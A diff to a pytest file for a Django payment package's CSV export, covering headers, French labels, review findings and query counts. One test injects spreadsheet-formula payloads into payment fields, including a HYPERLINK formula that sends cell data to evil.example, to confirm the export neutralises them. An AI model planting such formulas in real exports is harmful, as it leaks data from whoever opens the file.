@@ -21,10 +21,11 @@ from django.utils.translation import gettext
 from django_paiementpro.admin import export
 from django_paiementpro.admin.export import csv_response, export_payments
 from django_paiementpro.enums import Channel, Status
-from django_paiementpro.models import OPERATOR, Payment
+from django_paiementpro.models import Payment
 from django_paiementpro.testing import make_payment
 from tests.conftest import Statements
 from tests.host.models import Order
+from tests.test_admin import flag
 
 NOON = datetime(2026, 11, 25, 12, tzinfo=timezone.utc)
 
@@ -264,14 +265,14 @@ def test_long_text_takes_no_longer_than_its_length(unit: str) -> None:
 HEADERS = [
     *("Reference", "Status", "Amount", "Currency", "Amount refunded", "Operator", "Merchant", "Gateway id"),
     *("Order", "Description", "First name", "Last name", "E-mail", "Phone", "Created", "Page opened", "Settled"),
-    *("Settled by", "Attempts", "To review", "Why to review"),
+    *("Settled by", "Attempts", "To review", "Findings"),
 ]
 
 
 @pytest.mark.django_db
 def test_payment_is_a_row() -> None:
     order = Order.objects.create()
-    make_payment(
+    payment = make_payment(
         reference="A1",
         status="succeeded",
         refunded_amount=500,
@@ -284,9 +285,11 @@ def test_payment_is_a_row() -> None:
         settled_at=NOON + timedelta(hours=12),
         settled_by="staff",
         attempt=2,
-        needs_review=True,
-        review_reason="amount_mismatch: 1 ≠ 12500\npaid_twice\nsomething: else",
     )
+    flag(payment, "amount_mismatch", "1 != 12500")
+    flag(payment, "paid_twice", "")
+    flag(payment, "something", "else")
+    flag(payment, "unknown_code", "reviewed", reviewed_at=NOON)
 
     with site_time.override(ZoneInfo("Africa/Porto-Novo")):
         headers, row = read(export_payments(Payment.objects.all()))
@@ -296,7 +299,7 @@ def test_payment_is_a_row() -> None:
         *("A1", "Paid", "12500", "XOF", "500", "Orange Money Côte d’Ivoire", "PP-F324", "'9210824147867"),
         *(f"Order {order.pk}", "Order 1", "Awa", "Koné", "awa@example.com", "'07 07 12 34 56"),
         *("2026-11-25 13:00:00", "2026-11-25 13:01:00", "2026-11-26 01:00:00", "Staff", "2", "yes"),
-        "Another amount: 1 ≠ 12500; Paid twice; something: else",
+        "Another amount: 1 instead of 12500; Paid twice; something: else",
     ]
 
 
@@ -307,14 +310,14 @@ def test_payment_that_has_not_begun_has_empty_cells() -> None:
     [row] = rows_of(export_payments(Payment.objects.all()))
 
     assert {header for header, cell in row.items() if cell == ""} == {
-        *("Operator", "Gateway id", "Order", "Page opened", "Settled", "Settled by", "Why to review")
+        *("Operator", "Gateway id", "Order", "Page opened", "Settled", "Settled by", "Findings")
     }
     assert row["To review"] == "no"
 
 
 @pytest.mark.django_db
 def test_payments_are_told_in_french() -> None:
-    make_payment(status="failed", settled_by="notification", review_reason="paid_twice: 2", gateway_channel="OMSN")
+    flag(make_payment(status="failed", settled_by="notification", gateway_channel="OMSN"), "paid_twice", "2")
 
     with translation.override("fr"):
         response = export_payments(Payment.objects.all())
@@ -324,7 +327,8 @@ def test_payments_are_told_in_french() -> None:
     assert row["Réglé par"] == "Notification de la passerelle"
     assert row["Montant"] == "12500"
     assert row["Téléphone"] == "'07 07 12 34 56"
-    assert row["Motif de vérification"] == "Payé deux fois: 2"
+    assert row["À vérifier"] == "oui"
+    assert "Payé deux fois\u00a0: 2" in row.values()
     assert "Orange Money Sénégal" in row.values()
 
 
@@ -339,7 +343,7 @@ def test_what_this_version_does_not_know_is_given_as_it_is() -> None:
 
 @pytest.mark.django_db
 def test_payers_cannot_write_formulas() -> None:
-    make_payment(
+    payment = make_payment(
         description='=HYPERLINK("https://evil.example/?x="&A1,"Receipt")',
         customer_first_name="+1+1",
         customer_last_name='"; drop\n@SUM(1)',
@@ -347,8 +351,8 @@ def test_payers_cannot_write_formulas() -> None:
         gateway_channel="<script>",
         gateway_id="-1",
         object_id="=2",
-        review_reason="=1\r\n=2",
     )
+    flag(payment, "=1\r\n", "=2")
 
     [row] = rows_of(export_payments(Payment.objects.all()))
 
@@ -359,7 +363,7 @@ def test_payers_cannot_write_formulas() -> None:
     assert row["Operator"] == "<script>"
     assert row["Gateway id"] == "'-1"
     assert row["Order"] == "'=2"
-    assert row["Why to review"] == "'=1;' =2"
+    assert row["Findings"] == "'=1; : =2"
 
 
 @pytest.fixture
@@ -429,13 +433,33 @@ def test_statements_grow_with_the_pages_alone(statements: Statements, monkeypatc
 
 
 @pytest.mark.django_db
+def test_findings_of_a_page_are_read_with_one_statement(
+    statements: Statements, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(export, "PAGE_ROWS", 20)
+    fill(50)
+    for payment in Payment.objects.filter(amount__gte=130):
+        flag(payment, detail=str(payment.amount))
+        flag(payment, "paid_twice", "r")
+
+    with statements:
+        rows = rows_of(export_payments(Payment.objects.order_by("created_at")))
+
+    for row in rows:
+        is_flagged = int(row["Amount"]) >= 130
+        assert row["Findings"] == (f"Unknown response code: {row['Amount']}; Paid twice: r" if is_flagged else "")
+    assert len([sql for sql in statements if "paiementpro_finding" in sql]) == 2
+    assert len(statements) == 3 + 2
+
+
+@pytest.mark.django_db
 def test_export_has_what_the_list_was_filtered_to(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(export, "PAGE_ROWS", 3)
     fill(40)
     some = Payment.objects.filter(amount__in=range(100, 140, 4))
     some.update(status="failed", gateway_channel="OMCIV2")
     chosen = list(some.values_list("pk", flat=True))
-    operator = Payment.objects.alias(operator_code=OPERATOR).filter(operator_code="OMCIV2")
+    operator = Payment.objects.filter(effective_channel="OMCIV2")
     period = Payment.objects.filter(created_at__gte=NOON, created_at__lt=NOON + timedelta(seconds=3))
 
     for queryset in (some, Payment.objects.filter(status="failed"), operator, Payment.objects.filter(pk__in=chosen)):
@@ -463,10 +487,7 @@ def test_memory_does_not_grow_with_the_rows(monkeypatch: pytest.MonkeyPatch) -> 
 
 @pytest.mark.parametrize("zone", ["Pacific/Kiritimati", "Etc/GMT+12"])
 @pytest.mark.parametrize(("language", "stem"), [("en", "payments"), ("fr", "paiements")])
-@pytest.mark.parametrize("use_tz", [True, False])
-def test_name_has_the_date_of_the_site(zone: str, language: str, stem: str, use_tz: bool, settings: Any) -> None:
-    settings.USE_TZ = use_tz
-
+def test_name_has_the_date_of_the_site(zone: str, language: str, stem: str) -> None:
     with translation.override(language), site_time.override(ZoneInfo(zone)):
         response = export_payments(Payment.objects.none())
 
